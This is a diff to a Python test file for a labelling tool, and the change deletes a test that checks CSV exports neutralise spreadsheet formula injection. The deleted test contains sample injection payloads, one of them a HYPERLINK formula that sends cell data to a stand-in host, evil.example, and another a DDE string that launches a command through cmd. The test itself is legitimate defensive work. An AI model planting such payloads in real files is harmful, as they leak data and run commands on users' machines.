@@ -151,26 +151,3 @@ def test_label_studio_annotation_that_is_not_an_object_is_one_line(tmp_path):
         with pytest.raises(UnwritableFileError, match="does not exist"):
             p.export(tmp_path / "no" / "such" / "answers.csv", "answers")
         assert len(p.state().events) == before
-
-
-def test_csv_cells_that_a_spreadsheet_would_run_are_defused(tmp_path):
-    """OWASP's CSV injection: a text or a name starting with = + - @ is written with a leading apostrophe."""
-    import pandas as pd
-
-    from activelabel.project import init_project
-
-    frame = pd.DataFrame({"id": ["a", "b", "c", "d"],
-                          "text": ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1+1)*cmd|' /C calc'!A0",
-                                   "@import", "an ordinary text"],
-                          "label": ["spam", "ham", "spam", "ham"]})
-    frame.to_csv(tmp_path / "items.csv", index=False)
-    with init_project(tmp_path / "proj", ["spam", "ham"]) as p:
-        p.import_items(tmp_path / "items.csv", text_column="text", id_column="id", test_size=0)
-        frame[["id", "label"]].assign(annotator="=1+1").to_csv(tmp_path / "labels.csv", index=False)
-        p.import_labels(tmp_path / "labels.csv", annotator_column="annotator")
-        p.export(tmp_path / "out.csv", "csv")
-        p.export(tmp_path / "answers.csv", "answers")
-    texts = pd.read_csv(tmp_path / "out.csv").set_index("id")["text"]
-    assert texts["a"].startswith("'=HYPERLINK") and texts["b"].startswith("'+SUM") and texts["c"] == "'@import"
-    assert texts["d"] == "an ordinary text"
-    assert set(pd.read_csv(tmp_path / "answers.csv")["annotator"]) == {"'=1+1"}
